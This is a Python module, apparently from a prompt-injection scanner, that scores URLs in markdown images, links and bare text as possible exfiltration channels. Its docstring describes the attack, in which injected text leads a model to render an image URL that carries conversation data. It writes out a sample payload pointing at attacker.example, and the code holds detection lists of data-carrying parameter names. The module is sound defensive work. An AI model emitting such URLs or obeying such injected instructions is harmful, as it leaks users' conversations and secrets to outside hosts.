"""Exfiltration channels in URLs: markdown images and links, HTML images, bare URLs.

An injected instruction often asks the model to render an image or link whose URL carries data
("![x](https://attacker.example/p?d={conversation})"): the client fetches it and the data
leaves without any tool call. What marks such a URL is a query that carries a payload (a long
encoded value, natural-language text, a template placeholder for the model to fill) rather than
the short, conventional parameters of ordinary links (sizes, versions, tracking tags, signatures).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from urllib.parse import parse_qsl, unquote, urlsplit

__all__ = ["PLACEHOLDER_NAMES", "UrlFinding", "analyse_url"]

MAX_URL = 2048
MAX_PARAMS = 32

# A value spelled as the name of what to put there: ?e=EMAIL&n=NAME
PLACEHOLDER_NAMES = (r"NAME|FULL_?NAME|E-?MAIL|PASSWORD|PASS|TOKEN|SECRET|KEY|API_?KEY|DATA|SSN|PHONE|"
                     r"ADDRESS|USER(?:NAME)?|CARD|HISTORY|CHAT|CONVERSATION|SUMMARY|CONTEXT|PROMPT|"
                     r"CODE|OTP|QUESTION|QUERY|MESSAGE|INPUT|ANSWER|REPLY|RESPONSE")
# Also with a qualifier before or after it: ?u=USER_EMAIL&q=LAST_QUESTION. Not YOUR_ or MY_:
# "?key=YOUR_API_KEY" tells the reader of documentation to put their own key there.
_NAMED_VALUE = re.compile(rf"=(?!YOUR_|MY_)(?:[A-Z]{{2,12}}_)?(?:{PLACEHOLDER_NAMES})"
                          r"(?:_[A-Z]{2,12})?(?=&|#|$)")
_PLACEHOLDER = re.compile(
    r"\{\{?[^{}\s]{1,60}\}\}?|\[[A-Za-z_ ]{2,40}\]|<[A-Za-z_ ]{2,40}>|\$\{[A-Za-z_]{1,40}\}|"
    r"\$[A-Z_]{3,40}\b|%s\b|\b(?:INSERT|PLACEHOLDER|REPLACE)[_ A-Z]{0,30}\b|"
    + _NAMED_VALUE.pattern
)
# Every _PLACEHOLDER match holds one of these (its alternatives start with them), or an "="
# followed by a capital letter (a name it lists, or the qualifier before one).
_PLACEHOLDER_LITERALS = ("{", "[", "<", "$", "%s", "INSERT", "PLACEHOLDER", "REPLACE")
_EQUALS_NAME = re.compile(r"=[A-Z]")
_MAYBE_PLACEHOLDER = re.compile(r"[{}<>\[\]$]|%7[bBdD]|%24|%3[cC]|%s|INSERT|PLACEHOLDER|REPLACE")
_BASE64ISH = re.compile(r"[A-Za-z0-9+/=_-]{32,}")
_HEXISH = re.compile(r"[0-9a-fA-F]{32,}")
# Parameters ordinary links and images carry: sizes, formats, versions, tracking. Short values
# under these names are ordinary; a long encoded value is suspicious whatever its name...
_BENIGN_KEYS = frozenset({
    "w", "h", "width", "height", "size", "s", "sz", "v", "ver", "version", "format", "fm", "fit",
    "crop", "auto", "dpr", "quality", "raw", "ref", "source", "lang", "hl", "locale", "page",
    "p", "sort", "order", "id", "t", "ts", "cb", "cache", "rev", "branch", "tab", "theme",
    "style", "color", "logo", "label", "labelcolor", "link", "alt", "generation", "usp",
    "sharing", "dl", "download", "name", "filename", "q", "query", "search", "start", "end",
    "limit", "offset", "per_page", "scope", "response_type", "client_id", "redirect_uri", "tag",
    "max-age", "response-content-disposition", "response-content-type",
})
# ...except signatures and one-time values of signed and OAuth URLs, which are long and random
# by design.
_SIGNATURE_KEYS = frozenset({
    "signature", "sig", "key-pair-id", "policy", "expires", "se", "sp", "sv", "sr", "spr", "st",
    "skoid", "sktid", "skt", "ske", "sks", "skv", "token", "x-amz-algorithm", "x-amz-credential",
    "x-amz-date", "x-amz-expires", "x-amz-signedheaders", "x-amz-signature",
    "x-amz-security-token", "state", "code", "nonce", "hash", "sha", "commit", "code_challenge",
    "etag", "checksum", "integrity",
})
# Search links carry the searched text by design.
_SEARCH_KEYS = frozenset({"q", "query", "search", "text", "keywords", "term"})
_DATA_KEYS = frozenset({
    "data", "d", "payload", "secret", "secrets", "conversation", "conv", "chat", "history",
    "msg", "message", "messages", "content", "context", "prompt", "info", "leak", "exfil",
    "x", "c", "body", "text", "memo", "note", "notes", "password", "pass", "pwd", "key",
    "apikey", "api_key", "creds", "credentials", "cookie", "session", "email", "mail", "user",
    "summary", "output", "response", "answer", "log", "dump", "b64", "base64", "enc",
})


def _may_hold_placeholder(text: str) -> bool:
    """Whether ``_PLACEHOLDER`` can match in ``text``: a few C-level substring tests instead of
    a regex that tries its alternatives at every character (most URLs have none of them)."""
    for literal in _PLACEHOLDER_LITERALS:
        if literal in text:
            return True
    return "=" in text and _EQUALS_NAME.search(text) is not None


def _query_pairs(query: str) -> list[tuple[str, str]]:
    """``parse_qsl(query, keep_blank_values=True)``; a query without ``%`` or ``+`` (nothing to
    unquote) is split directly, several times faster."""
    if "%" in query or "+" in query:
        return parse_qsl(query, keep_blank_values=True)
    pairs = []
    for field in query.split("&"):
        if field:
            name, _, value = field.partition("=")
            pairs.append((name, value))
    return pairs


@dataclass(frozen=True, slots=True)
class UrlFinding:
    """What makes one URL look like an exfiltration channel."""

    indicator: str
    weight: float
    detail: str
    # Whether what was found is a value written into the URL (an encoded token, a text), not a
    # placeholder for the model to fill: in text the model reads, such a value carries none of
    # the user's data.
    fixed: bool = False
    # A query value that decodes to natural-language text: the scanner reads it as text.
    text: str | None = None


def _payload_like(value: str) -> str | None:
    if len(value) >= 32 and _BASE64ISH.fullmatch(value) is not None:
        if _HEXISH.fullmatch(value) is not None:
            return "hex value"
        has_upper = any(c.isupper() for c in value)
        has_lower = any(c.islower() for c in value)
        has_digit = any(c.isdigit() for c in value)
        if sum((has_upper, has_lower, has_digit)) >= 2:
            return "encoded value"
    if len(value) >= 24 and value.count(" ") >= 4:
        return "text value"
    return None


def analyse_url(url: str, kind: str) -> UrlFinding | None:
    """Judge a URL found as ``kind`` (``image``, ``link`` or ``bare``); ``None`` when ordinary."""
    url = url[:MAX_URL]
    query_at = url.find("?")
    fragment_at = url.find("#")
    if kind in ("link", "bare") and fragment_at < 0 and (
            query_at < 0 or len(url) - query_at < 17) and not _MAYBE_PLACEHOLDER.search(url) \
            and (query_at < 0 or _NAMED_VALUE.search(url, query_at) is None):
        # Links judge only long query values and placeholders ("?q=CONTEXT" names what the
        # model is to put there), so a short query without one, or none, is ordinary already.
        return None
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme not in ("http", "https", "") or (not parts.netloc and kind == "bare"):
        return None
    decoded = unquote(url)
    indicator = {"image": "exfil-markdown-image", "link": "exfil-markdown-link",
                 "html-image": "exfil-markdown-image"}.get(kind, "exfil-url")
    placeholder = _PLACEHOLDER.search(decoded) if _may_hold_placeholder(decoded) else None
    if placeholder is not None:
        weight = {"image": 0.75, "html-image": 0.75, "link": 0.6}.get(kind, 0.55)
        query = decoded.find("?")
        if kind in ("link", "bare") and (query < 0 or placeholder.start() < query):
            # A template in the path of an address the reader follows ("/packages/{name}/
            # {name}-${version}.tar.gz") is how documentation writes URLs; data leaves in a query
            # (an image's path is fetched unasked: kept strong).
            weight = 0.3
        return UrlFinding(indicator, weight, f"template placeholder {placeholder.group()[:40]!r}")
    if not parts.query and not parts.fragment:
        return None
    best: UrlFinding | None = None
    params = _query_pairs(parts.query)[:MAX_PARAMS]
    if parts.fragment and "=" not in parts.fragment and kind in ("image", "html-image"):
        params.append(("#", parts.fragment))
    for key, value in params:
        key_l = key.lower()
        if key_l.startswith(("utm_", "x-goog-")) or key_l in _SIGNATURE_KEYS:
            continue
        if kind in ("link", "bare") and key_l in _SEARCH_KEYS:
            continue
        if key_l in _BENIGN_KEYS and len(value) < 24:
            continue
        shape = _payload_like(value)
        if shape is not None:
            weight = {"image": 0.6, "html-image": 0.6, "link": 0.35}.get(kind, 0.2)
            found = UrlFinding(indicator, weight, f"query parameter {key[:40]!r} carries a {shape}",
                               fixed=True, text=value if shape == "text value" else None)
        elif kind in ("image", "html-image") and len(value) >= 8:
            weight = 0.45 if key_l in _DATA_KEYS else 0.3
            found = UrlFinding(indicator, weight, f"image URL carries data in {key[:40]!r}",
                               fixed=True)
        elif key_l in _DATA_KEYS and len(value) >= 16:
            weight = 0.3 if kind == "link" else 0.15
            found = UrlFinding(indicator, weight, f"query parameter {key[:40]!r} carries data",
                               fixed=True)
        else:
            continue
        if best is None or found.weight > best.weight:
            best = found
    return best
